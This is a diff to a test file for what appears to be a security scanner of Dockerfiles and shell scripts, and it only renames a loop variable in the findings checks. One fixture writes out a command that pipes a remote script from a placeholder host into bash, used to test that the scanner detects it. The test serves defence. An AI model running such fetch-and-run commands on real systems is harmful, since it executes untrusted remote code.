@@ -50,7 +50,7 @@ def test_manifest(case, how, tmp_path, capsys, monkeypatch):
     found = {finding["rule_id"] for finding in entry["findings"]}
     assert set(case.get("rules", ())) <= found, entry
     assert not set(case.get("absent", ())) & found
-    worst = max((Severity(one["severity"]).rank for one in entry["findings"]), default=0)
+    worst = max((Severity(finding["severity"]).rank for finding in entry["findings"]), default=0)
     if "max" in case:
         assert worst <= Severity(case["max"]).rank, entry["findings"]
     if "verdict" in case:
@@ -97,7 +97,7 @@ def test_another_password_beside_a_credential_is_told(tmp_path, capsys):
     root = written(tmp_path, {"Dockerfile": text})
     _, report, _ = scanned(capsys, root / "Dockerfile")
     (entry,) = report["files"]
-    (secret,) = [one for one in entry["findings"] if one["rule_id"] == "TW-PIPE-SECRET"]
+    (secret,) = [finding for finding in entry["findings"] if finding["rule_id"] == "TW-PIPE-SECRET"]
     assert secret["evidence"]["line"] == 3
 
 
@@ -105,5 +105,7 @@ def test_a_command_that_fetches_and_runs_is_told_once(tmp_path, capsys):
     root = written(tmp_path, {"run.sh": "set -e\ncurl https://a.example/x.sh | bash\n"})
     _, report, _ = scanned(capsys, root / "run.sh")
     (entry,) = report["files"]
-    told = [one["rule_id"] for one in entry["findings"] if one["evidence"].get("line") == 2]
+    told = [
+        finding["rule_id"] for finding in entry["findings"] if finding["evidence"].get("line") == 2
+    ]
     assert len(told) == 1
